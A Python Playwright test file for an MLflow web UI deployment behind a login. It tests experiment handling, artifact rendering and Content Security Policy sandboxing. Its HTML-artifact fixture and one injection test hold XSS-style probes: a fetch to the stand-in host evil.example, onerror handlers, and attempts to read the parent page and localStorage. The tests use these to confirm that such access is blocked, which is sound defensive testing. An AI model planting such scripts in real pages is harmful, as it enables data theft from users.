"""The user interface in a real Chromium: by the public name on both engines, and behind a login."""

import io
import json
import subprocess
import time
import uuid
import wave
from collections.abc import Iterator, Mapping
from dataclasses import dataclass, field
from pathlib import Path
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import (
    Browser,
    ConsoleMessage,
    Error,
    FrameLocator,
    Page,
    Response,
    Route,
    expect,
)

from ops import front_door
from ops.front_door import FrontDoor
from tests.e2e.browsers import chromium, trusted
from tests.e2e.conftest import Project, todays
from tests.e2e.tools import environment

SECONDS = 60
expect.set_options(timeout=SECONDS * 1000)


@pytest.fixture
def page() -> Iterator[Page]:
    """A page of an empty browser."""
    with chromium() as browser:
        yield browser.new_page()


@pytest.mark.parametrize("engine", todays(["stack", "embedded"], 2))
def test_an_experiment_is_made_renamed_and_deleted_by_the_public_name(
    engine: str, page: Page, request: pytest.FixtureRequest
) -> None:
    project: Project = request.getfixturevalue(engine)
    address = f"http://mlflow.example.test:{project.port}"
    project.set(PUBLIC_URL=address, AUTH="none")
    project.invoke("up")
    refused: list[str] = []
    page.on("response", lambda answer: refused.extend(failure(answer)))
    try:
        make_rename_and_delete(page, address)
    finally:
        project.unset("PUBLIC_URL", "AUTH")
        project.invoke("up")

    assert [] == refused


def failure(answer: Response) -> list[str]:
    """Say which request the server refused or failed; 404 is how the page asks what there is."""
    closed = "/mlflow/assistant/" in answer.url  # the page asks whether there is one
    bad = (answer.status == 403 and not closed) or answer.status >= 500
    return [f"{answer.status} {answer.request.method} {answer.url}"] if bad else []


def make_rename_and_delete(page: Page, address: str) -> None:
    name = f"made in a browser {uuid.uuid4().hex[:6]}"
    page.set_default_timeout(SECONDS * 1000)
    page.goto(f"{address}/#/experiments")
    page.get_by_role("button", name="Create", exact=True).first.click()
    dialog = page.get_by_role("dialog")
    dialog.get_by_placeholder("Input an experiment name").fill(name)
    dialog.get_by_role("button", name="Create", exact=True).click()
    expect(page.get_by_text(name).first).to_be_visible()
    assert "active" == stage(address, name)

    guidance = page.get_by_role("button", name="Got it")  # shown once, over everything
    guidance.click()
    open_menu(page, "Edit experiment")
    dialog.locator("input").first.fill(f"{name}, renamed")
    dialog.get_by_role("button", name="Save").click()
    expect(dialog).to_be_hidden()
    assert "active" == stage(address, f"{name}, renamed")

    open_menu(page, "Delete")
    dialog.get_by_role("button", name="Delete").click()
    expect(dialog).to_be_hidden()
    assert "deleted" == stage(address, f"{name}, renamed")


def open_menu(page: Page, item: str) -> None:
    page.get_by_test_id("overflow-menu-trigger").first.click()
    page.get_by_role("menuitem", name=item).click()


def stage(address: str, name: str) -> str:
    """Ask the server itself, by the public name, what became of an experiment."""
    parts = urlsplit(address)
    door = FrontDoor(f"http://127.0.0.1:{parts.port}", {"Host": parts.netloc})
    found = door.call("GET", "/experiments/get-by-name", {"experiment_name": name})
    return str(found["experiment"]["lifecycle_stage"])


# --- Behind the gate ---

NOTES = "logged through the front door"


@pytest.fixture
def trusting(guarded: Project) -> Iterator[Browser]:
    """A browser that takes the certificate of the stack's own CA."""
    with chromium(trusted(guarded.tls_port)) as browser:
        yield browser


def a_run(project: Project, files: Mapping[str, bytes]) -> tuple[str, str, str]:
    """Log a run with artifacts; return its experiment, its id and its name."""
    door = front_door.local(project.settings)
    name = f"seen in a browser {uuid.uuid4().hex[:6]}"
    experiment = door.call("POST", "/experiments/create", {"name": name})["experiment_id"]
    body = {"experiment_id": experiment, "run_name": name, "start_time": int(time.time() * 1000)}
    info = door.call("POST", "/runs/create", body)["run"]["info"]
    path = info["artifact_uri"].removeprefix("mlflow-artifacts:")
    for file, content in files.items():
        door.request("PUT", f"/api/2.0/mlflow-artifacts/artifacts{path}/{file}", body=content)
    return experiment, info["run_id"], name


@dataclass(frozen=True)
class Visit:
    """The admin's page, and what went wrong on it."""

    page: Page
    url: str
    refused: list[str] = field(default_factory=list)
    complaints: list[str] = field(default_factory=list)
    """What Chromium said of the policy."""

    def artifacts(self, experiment: str, run: str) -> None:
        """Go to a run's artifacts."""
        self.page.goto(f"{self.url}/#/experiments/{experiment}/runs/{run}/artifacts")
        self.page.reload()
        self.page.get_by_test_id("artifact-tree-node").first.wait_for()

    def open(self, name: str) -> None:
        """Open one of them."""
        self.page.get_by_label(name, exact=True).click()


def complaint(line: ConsoleMessage) -> list[str]:
    return [line.text] if "Content Security Policy" in line.text else []


@pytest.fixture
def visit(guarded: Project, trusting: Browser) -> Visit:
    """A browser in which the admin has logged in."""
    user, password = guarded.admin
    context = trusting.new_context(http_credentials={"username": user, "password": password})
    found = Visit(context.new_page(), guarded.url)
    page = found.page
    page.set_default_timeout(SECONDS * 1000)
    page.on("response", lambda answer: found.refused.extend(failure(answer)))
    page.on("console", lambda line: found.complaints.extend(complaint(line)))
    return found


def test_a_browser_logs_in_looks_at_a_run_and_opens_an_artifact(
    guarded: Project, visit: Visit
) -> None:
    experiment, run, name = a_run(guarded, {"notes.txt": NOTES.encode()})
    page = visit.page

    page.goto(f"{visit.url}/#/experiments/{experiment}/runs/{run}")
    expect(page.get_by_text(name).first).to_be_visible()
    visit.artifacts(experiment, run)
    visit.open("notes.txt")
    expect(page.get_by_text(NOTES).first).to_be_visible()

    assert [] == visit.refused
    assert [] == visit.complaints


def sound() -> bytes:
    made = io.BytesIO()
    with wave.open(made, "wb") as file:
        file.setnchannels(1)
        file.setsampwidth(2)
        file.setframerate(8000)
        file.writeframes(bytes(8000))
    return made.getvalue()


SVG = """<svg xmlns="http://www.w3.org/2000/svg" width="40" height="30">
<rect width="9" height="9"/></svg>"""
CELL = {"cell_type": "markdown", "metadata": {}, "source": ["a cell of a notebook"]}
NOTEBOOK = {"cells": [CELL], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}
FILES = {
    "drawing.svg": SVG.encode(),
    "table.csv": b"fruit,price\npears,7\n",
    "config.json": b'{"key": "a value in JSON"}',
    "settings.yaml": b"key: a value in YAML\n",
    "readme.md": b"# A title in Markdown\n",
    "notebook.ipynb": json.dumps(NOTEBOOK).encode(),
    "sound.wav": sound(),
    "film.mp4": b"no film: what is tried is whether it is asked for",
}
SHOWN = {
    "picture.png": "img[src^='blob:']",
    "drawing.svg": "img[src^='blob:']",
    "report.pdf": "canvas",
    "table.csv": "text=pears",
    "config.json": "text=a value in JSON",
    "settings.yaml": "text=a value in YAML",
    "readme.md": "h1:has-text('A title in Markdown')",
    "notebook.ipynb": "text=a cell of a notebook",
    "sound.wav": "audio",
    "film.mp4": "video[src^='blob:']",
}


def test_artifacts_of_many_kinds_are_shown(guarded: Project, visit: Visit) -> None:
    visit.page.set_content("something to print")
    printed = {"picture.png": visit.page.screenshot(), "report.pdf": visit.page.pdf()}
    experiment, run, _ = a_run(guarded, FILES | printed)
    visit.artifacts(experiment, run)
    for name, seen in SHOWN.items():
        visit.open(name)
        expect(visit.page.locator(seen).first, name).to_be_attached()
        if seen.startswith("img"):
            visit.page.wait_for_function(
                "document.querySelector(\"img[src^='blob:']\").naturalWidth > 0"
            )

    assert [] == visit.refused
    assert [] == visit.complaints


# --- HTML artifacts ---

HTML = """<!doctype html><title>report</title><p id="seen">not run</p><a href="#end">end</a>
<style>p { color: rgb(1, 2, 3) }</style>
<script>
    document.getElementById("seen").textContent = `run, as ${window.origin}`;
    for (const [id, act] of Object.entries({
        door: () => fetch("/version", {credentials: "include"}).then((answer) => answer.text()),
        outside: () => fetch("https://evil.example/?what"),
        page: () => parent.document.title,
        store: () => localStorage.length,
    })) Promise.resolve().then(act).then(() => "reached", () => "kept off").then((how) => {
        document.body.insertAdjacentHTML("beforeend", `<p id="${id}">${how}</p>`);
    });
</script>
<img src="x" onerror="document.body.dataset.handler = 'run'">"""

LOG_FIGURES = """
import uuid
import mlflow, plotly.graph_objects as go

figure = go.Figure(go.Scatter(y=[1, 3, 2]), layout={"title": "drawn by Plotly"})
with mlflow.start_run(experiment_id=mlflow.create_experiment(uuid.uuid4().hex)) as run:
    mlflow.log_figure(figure, "linked.html")
    mlflow.log_figure(figure, "whole.html", save_kwargs={"include_plotlyjs": True})
print(run.info.experiment_id, run.info.run_id)
"""


def frame(visit: Visit) -> FrameLocator:
    """The artifact that is open."""
    return visit.page.frame_locator(".mlflow-html-iframe")


def test_an_html_artifact_runs_its_scripts_and_reaches_nothing_else(
    guarded: Project, visit: Visit
) -> None:
    experiment, run, _ = a_run(guarded, {"report.html": HTML.encode(), "notes.txt": b"-"})
    visit.artifacts(experiment, run)
    for _ in range(2):
        visit.open("report.html")
        shown = frame(visit)
        expect(shown.locator("#seen")).to_have_text("run, as null")
        expect(shown.locator("#seen")).to_have_css("color", "rgb(1, 2, 3)")
        expect(shown.locator("body")).to_have_attribute("data-handler", "run")
        for place in ("door", "outside", "page", "store"):
            expect(shown.locator(f"#{place}")).to_have_text("kept off")
        visit.open("notes.txt")

    assert [] == visit.refused


@pytest.fixture(scope="module")
def figures(guarded: Project, tmp_path_factory: pytest.TempPathFactory) -> tuple[str, str, Path]:
    """A run with a figure of Plotly's, with its script and without; and where that script is."""
    programs = environment("figures", tmp_path_factory.mktemp("figures"))
    words = [str(programs / "python"), "-c", LOG_FIGURES]
    done = subprocess.run(
        words, env=guarded.client_environ(), capture_output=True, text=True, check=False
    )
    assert done.returncode == 0, done.stderr
    experiment, run = done.stdout.split()[-2:]
    [script] = programs.parent.rglob("plotly/package_data/plotly.min.js")
    return experiment, run, script


@pytest.mark.parametrize("name", ["linked.html", "whole.html"])
def test_a_figure_of_plotly_s_is_drawn(
    visit: Visit, figures: tuple[str, str, Path], name: str
) -> None:
    """MLflow logs it without Plotly's script, which a browser then has from cdn.plot.ly."""
    experiment, run, script = figures
    asked: list[str] = []

    def cdn(route: Route) -> None:
        asked.append(route.request.url)
        route.fulfill(
            path=script,
            content_type="text/javascript",
            headers={"Access-Control-Allow-Origin": "*"},
        )

    visit.page.route("https://cdn.plot.ly/**", cdn)
    visit.artifacts(experiment, run)
    visit.open(name)
    expect(frame(visit).locator(".gtitle")).to_have_text("drawn by Plotly")
    expect(frame(visit).locator(".scatterlayer path.js-line")).to_be_visible()

    assert (1 if name == "linked.html" else 0) == len(asked)
    assert [] == visit.refused
    assert [] == visit.complaints


def test_mlflow_s_own_pages_run_no_script_that_is_written_into_them(visit: Visit) -> None:
    """What is opened for an HTML artifact is opened for its frame alone."""
    visit.page.goto(f"{visit.url}/#/experiments")
    expect(visit.page.get_by_role("button", name="Create", exact=True).first).to_be_visible()
    visit.page.evaluate(
        """() => {
            const script = document.createElement("script");
            script.textContent = "window.run = true";
            document.body.append(script);
            const frame = document.createElement("iframe");
            frame.srcdoc = "<script>parent.run = true</script>";
            document.body.append(frame);
            const image = document.createElement("div");
            image.innerHTML = "<img src=x onerror='window.run = true'>";
            document.body.append(image);
            return new Promise((done) => setTimeout(done, 1000));
        }"""
    )
    assert visit.page.evaluate("window.run") is None
    assert 3 == len(visit.complaints), visit.complaints


def test_a_browser_without_a_password_sees_nothing(guarded: Project, trusting: Browser) -> None:
    page = trusting.new_context().new_page()
    with pytest.raises(Error, match="ERR_INVALID_AUTH_CREDENTIALS"):
        page.goto(f"{guarded.url}/")
